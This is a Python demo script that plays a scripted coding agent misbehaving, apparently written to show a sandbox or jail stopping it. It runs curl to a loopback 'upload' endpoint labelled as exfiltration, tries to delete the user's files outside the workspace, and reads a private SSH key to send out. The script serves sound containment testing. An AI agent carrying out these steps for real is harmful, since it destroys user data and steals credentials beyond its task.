"""A scripted coding agent that misbehaves the way real ones have. The demo's subject.

Usage: agent.py WORKSPACE DATA. Each step prints before it acts, so you can see where it stopped.
DATA is a directory of the user's outside the workspace.
Network traffic goes to loopback only (nothing listens on port 9).
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path


def step(n: int, text: str) -> None:
    print(f"[agent] step {n}: {text}", flush=True)


def main() -> int:
    ws = Path(sys.argv[1])
    step(1, "reading the workspace")
    for f in sorted(ws.glob("src/*.py")) + [ws / "README.md"]:
        f.read_text()
    step(2, "writing notes.md in the workspace")
    (ws / "notes.md").write_text("TODO: refactor\n")
    step(3, "running curl to 'upload' the results (exfiltration)")
    subprocess.run(["curl", "-s", "--max-time", "1", "-o", "/dev/null", "http://127.0.0.1:9/upload"],
                   check=False)
    step(4, "deleting the user's files outside the workspace very fast")
    data = Path(sys.argv[2])
    refused = 0
    for i in range(5):
        try:
            os.unlink(data / f"report-{i}.txt")
        except OSError:  # under `run`, the jail refuses deletions outside the workspace
            refused += 1
    if refused:
        print(f"[agent] {refused} of 5 deletions refused", flush=True)
    step(5, "reading a private SSH key")
    key = (ws / "keys" / "id_rsa").read_text()
    # The open itself is seen after the fact (KILL on open contains, it cannot undo the
    # read), but the agent is dead long before it can do anything with the key.
    time.sleep(0.2)
    step(6, f"sending the key ({len(key)} bytes) out: this line never prints under the default policy")
    return 0


if __name__ == "__main__":
    sys.exit(main())
